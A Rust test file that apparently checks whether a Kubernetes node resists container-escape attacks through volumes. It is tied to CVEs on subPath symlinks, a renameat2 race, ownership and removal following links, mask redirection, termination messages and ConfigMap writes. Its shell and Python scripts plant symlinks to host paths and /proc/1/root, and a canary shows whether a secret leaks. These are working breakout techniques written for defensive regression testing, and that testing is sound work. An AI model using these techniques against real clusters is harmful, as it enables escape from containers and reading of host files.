//! Volumes: links that a container plants for the node, or for a container after it, to follow.

use anyhow::{Context, Result, ensure};
use asb_tests::pods::spec::{With, idle, once, python, sh};
use asb_tests::pods::stage::{Stage, exit, has_ended, waiting};
use asb_tests::wait;
use k8s_openapi::api::core::v1::{ConfigMap, PersistentVolumeClaim};
use kube::api::{DeleteParams, Patch, PatchParams};
use serde_json::{Value, json};

use crate::case::Attack::Staged;
use crate::case::Layer::{Files, Volumes};
use crate::case::{Case, Outcome, case};
use crate::ground::Ground;
use crate::witness::{Canary, SECRET, claim, delete, inside_of_the_node};

pub(crate) const CASES: &[Case] = &[
    case(
        "a_sub_path_does_not_leave_its_volume",
        "CVE-2017-1002101: a subPath that is a link",
        &[Volumes],
        Staged(|ground| Box::pin(sub_path(ground))),
    ),
    case(
        "a_sub_path_that_changes_meanwhile_does_not_either",
        "CVE-2021-25741, CVE-2021-30465: the same, in the moment between look and mount",
        &[Volumes],
        Staged(|ground| Box::pin(race(ground))),
    ),
    case(
        "links_on_a_volume_are_not_followed_by_the_node",
        "CVE-2017-1002102's kind: ownership of a volume, given to what links point to",
        &[Volumes],
        Staged(|ground| Box::pin(ownership(ground))),
    ),
    case(
        "a_volume_that_goes_takes_nothing_along",
        "removals that follow links",
        &[Volumes],
        Staged(|ground| Box::pin(removal(ground))),
    ),
    case(
        "a_mount_over_a_link_stays_inside",
        "CVE-2021-30465, CVE-2023-27561: mounts whose place is below a link on a volume",
        &[Volumes, Files],
        Staged(|ground| Box::pin(mount_point(ground))),
    ),
    case(
        "masks_are_not_led_elsewhere",
        "CVE-2025-31133, CVE-2025-62161: /dev/null as a link, on a volume at /dev",
        &[Files],
        Staged(|ground| Box::pin(masks(ground))),
    ),
    case(
        "last_words_are_the_containers_own",
        "the message at a container's end, as a link to a file of the machine",
        &[Volumes, Files],
        Staged(|ground| Box::pin(last_words(ground))),
    ),
    case(
        "files_that_the_node_writes_are_not_led_elsewhere",
        "CVE-2017-1002102: files of ConfigMaps and Secrets, written or removed through links of the container",
        &[Volumes],
        Staged(|ground| Box::pin(payload(ground))),
    ),
];

fn at(volume: &str, place: &str) -> Value {
    json!({"name": volume, "mountPath": place})
}

/// A container that comes first, with the volume `v` at /v.
fn planter(script: &str) -> Value {
    sh(script).with(json!({"name": "planter", "volumeMounts": [at("v", "/v")]}))
}

/// Waits until a Pod has ended, or its container cannot be made.
async fn settled(stage: &Stage, name: &str) -> Result<String> {
    let is_settled = |pod: &_| has_ended(pod) || waiting(pod).contains("Error");
    stage.until(name, "settled", is_settled).await?;
    Ok(stage.logs(name, "main").await.unwrap_or_default())
}

async fn sub_path(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    let place = canary.place();
    let plant = format!(
        "ln -s / /v/root; ln -s ../../../../../../../../.. /v/up; ln -s {place} /v/there; mkdir /v/in; ln -s /proc/1/root /v/in/magic"
    );
    let mut escaped = None;
    for (name, inner) in [
        ("absolute", format!("root{place}")),
        ("above", format!("up{place}")),
        ("itself", "there".to_owned()),
        ("file", "there/secret".to_owned()),
        ("made", "there/new/one".to_owned()),
        ("magic", format!("in/magic{place}")),
    ] {
        let mount = at("v", "/s").with(json!({"subPath": inner}));
        let main = sh("cat /s /s/secret; ls /s").with(json!({"volumeMounts": [mount]}));
        let spec = once(main)
            .with(json!({"initContainers": [planter(&plant)], "volumes": [{"name": "v", "emptyDir": {}}]}));
        stage.create(name, spec).await?;
        let said = settled(stage, name).await?;
        escaped = escaped.or_else(|| said.contains(SECRET).then_some(said));
    }
    let outcome = Outcome::of(escaped.or(canary.harm()?));
    ground.stage.finish().await?;
    Ok(outcome)
}

/// One container swaps a directory for a link and back, as fast as it can, while others are mounted from it.
async fn race(ground: Ground) -> Result<Outcome> {
    const WALKERS: usize = 24;
    let (stage, canary) = (&ground.stage, Canary::set()?);
    claim(stage, "disk").await?;
    let swap = format!(
        "
import ctypes, os, signal
library, place = ctypes.CDLL(None), '{}'
os.makedirs('/v/race' + place)
open(f'/v/race{{place}}/secret', 'w').write('mine')
os.symlink('/', '/v/link')
signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
open('/tmp/ready', 'w').close()
while True: library.renameat2(-100, b'/v/race', -100, b'/v/link', 2)",
        canary.place()
    );
    let disk = json!({"volumes": [{"name": "v", "persistentVolumeClaim": {"claimName": "disk"}}]});
    let ready = json!({"exec": {"command": ["test", "-e", "/tmp/ready"]}, "periodSeconds": 1});
    let swapper = python(&swap).with(json!({"volumeMounts": [at("v", "/v")], "readinessProbe": ready}));
    stage.start("swapper", once(swapper).with(disk.clone())).await?;
    let mount = at("v", "/s").with(json!({"subPath": format!("race{}", canary.place())}));
    for number in 0..WALKERS {
        let walker = sh("cat /s/secret").with(json!({"volumeMounts": [mount]}));
        stage.create(&format!("walker-{number}"), once(walker).with(disk.clone())).await?;
    }
    let mut said = Vec::new();
    for number in 0..WALKERS {
        said.push(settled(stage, &format!("walker-{number}")).await?);
    }
    let escaped = said.iter().find(|said| said.contains(SECRET)).cloned();
    ensure!(
        said.iter().any(|said| said == "mine"),
        "nobody was ever mounted, so nothing was tried: {said:?}"
    );
    let outcome = Outcome::of(escaped.or(canary.harm()?));
    ground.stage.finish().await?;
    Ok(outcome)
}

/// Links of every sort on a claim.
async fn plant(stage: &Stage, canary: &Canary) -> Result<PersistentVolumeClaim> {
    let made = claim(stage, "disk").await?;
    let place = canary.place();
    let script = format!(
        "ln -s {place}/secret /v/file; ln -s {place} /v/folder; mkdir /v/deep; ln -s {place} /v/deep/folder; touch /v/plain; chmod 700 /v/deep"
    );
    let spec = once(planter(&script)).with(disk());
    stage.create("planter", spec).await?;
    stage.until("planter", "ended", has_ended).await?;
    delete(stage, "planter", 0).await?;
    Ok(made)
}

fn disk() -> Value {
    json!({"volumes": [{"name": "v", "persistentVolumeClaim": {"claimName": "disk"}}]})
}

async fn ownership(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    Box::pin(plant(stage, &canary)).await?;
    let main = sh("stat -c %g /v/plain").with(json!({"volumeMounts": [at("v", "/v")]}));
    let spec = once(main).with(disk()).with(json!({"securityContext": {"fsGroup": 4242}}));
    let said = stage.run("owner", spec).await?;
    ensure!(said == "4242", "the node gave nothing to the group: {said}");
    let outcome = Outcome::of(canary.harm()?);
    ground.stage.finish().await?;
    Ok(outcome)
}

async fn removal(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    let made = Box::pin(plant(stage, &canary)).await?;
    let mark = format!("mark-{}", stage.namespace.name());
    let marker = once(planter(&format!("mkdir /v/{mark}"))).with(disk());
    stage.create("marker", marker).await?;
    stage.until("marker", "ended", has_ended).await?;
    let place = inside_of_the_node(&mark).await?;
    delete(stage, "marker", 0).await?;
    stage.namespace.api::<PersistentVolumeClaim>().delete("disk", &DeleteParams::default()).await?;
    wait::for_gone(&stage.namespace.api(), &made).await?;
    wait::until(wait::DEADLINE, "the volume to go", || async { (!place.exists()).then_some(()) }).await?;
    let outcome = Outcome::of(canary.harm()?);
    ground.stage.finish().await?;
    Ok(outcome)
}

/// The place is made where it is missing: through the link, that would be on the machine.
async fn mount_point(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    let place = canary.place();
    let volumes = json!({"volumes": [{"name": "v", "emptyDir": {}}, {"name": "w", "emptyDir": {}}]});
    let mut escaped = None;
    for (name, link) in [("absolute", place.clone()), ("above", format!("../../../../../../../..{place}"))] {
        let mounts = json!({"volumeMounts": [at("v", "/v"), at("w", "/v/link/inner")]});
        let main = sh("touch /v/link/inner/x; cat /v/link/secret").with(mounts);
        let first = planter(&format!("ln -s {link} /v/link"));
        stage.create(name, once(main).with(volumes.clone()).with(json!({"initContainers": [first]}))).await?;
        let said = settled(stage, name).await?;
        escaped = escaped.or_else(|| said.contains(SECRET).then_some(said));
    }
    let outcome = Outcome::of(escaped.or(canary.harm()?));
    ground.stage.finish().await?;
    Ok(outcome)
}

/// What is masked is covered by /dev/null: a link there would put a file of its choice in the place of what is masked, with
/// nothing that keeps it from being written.
async fn masks(ground: Ground) -> Result<Outcome> {
    let stage = &ground.stage;
    let first = planter(
        "ln -s /proc/sys/kernel/hostname /v/null; ln -s /proc/sys/kernel/hostname /v/console; ln -s / /v/pts",
    );
    let script = "grep -E ' /proc/[a-z_]+ | /dev' /proc/self/mountinfo; ls -l /dev; cat /proc/keys";
    let main = sh(script).with(json!({"volumeMounts": [at("v", "/dev")], "tty": true}));
    let spec =
        once(main).with(json!({"initContainers": [first], "volumes": [{"name": "v", "emptyDir": {}}]}));
    stage.create("masked", spec).await?;
    let said = settled(stage, "masked").await?;
    let mounted =
        said.lines().find(|line| line.contains("/sys/kernel/hostname /") && line.contains(" - proc"));
    let outcome = Outcome::of(mounted.map(str::to_owned));
    ground.stage.finish().await?;
    Ok(outcome)
}

async fn last_words(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    let place = canary.place();
    let replace = |at: &str| {
        format!(
            "rm -f {at}; umount {at} 2>/dev/null; ln -sf {place}/secret {at}; mv -T {at} {at}.old; ln -sf {place}/secret {at}; true"
        )
    };
    let volumes = json!({"volumes": [{"name": "v", "emptyDir": {}}]});
    let first = planter(&format!("ln -s {place} /v/folder; ln -s {place}/secret /v/file"));
    let cases = [
        ("usual", "/dev/termination-log"),
        ("folder", "/v/folder/words"),
        ("file", "/v/file"),
        ("kernel", "/proc/1/root/v/file"),
    ];
    let mut escaped = None;
    for (name, path) in cases {
        let main =
            sh(&replace(path)).with(json!({"volumeMounts": [at("v", "/v")], "terminationMessagePath": path}));
        stage.create(name, once(main).with(volumes.clone()).with(json!({"initContainers": [first]}))).await?;
        settled(stage, name).await?;
        let pod = stage.pods().get(name).await?;
        let message = exit(&pod).map(|(_, _, message)| message.to_owned()).unwrap_or_default();
        escaped = escaped.or_else(|| message.contains(SECRET).then_some(message));
    }
    let outcome = Outcome::of(escaped.or(canary.harm()?));
    ground.stage.finish().await?;
    Ok(outcome)
}

/// The container tries to lead the next writing astray; then the object changes.
async fn payload(ground: Ground) -> Result<Outcome> {
    let (stage, canary) = (&ground.stage, Canary::set()?);
    let place = canary.place();
    stage.put::<ConfigMap>("words", json!({"data": {"secret": "first"}})).await?;
    let volumes = json!({"volumes": [{"name": "c", "configMap": {"name": "words"}}]});
    let main = idle().with(json!({"volumeMounts": [at("c", "/c")]}));
    stage.start("reader", once(main).with(volumes)).await?;
    let lead = format!(
        "cd /c; for name in ..data $(ls -A); do rm -rf $name; ln -sfn {place} $name; mv -T $name x; done 2>&1 || true"
    );
    stage.exec("reader", &lead).await?;
    let change = json!({"data": {"secret": "second"}});
    stage.namespace.api::<ConfigMap>().patch("words", &PatchParams::default(), &Patch::Merge(change)).await?;
    let read = stage.exec_until("reader", "cat /c/secret", "second").await;
    let outcome = Outcome::of(canary.harm()?);
    read.context("the node could not write any more")?;
    ground.stage.finish().await?;
    Ok(outcome)
}
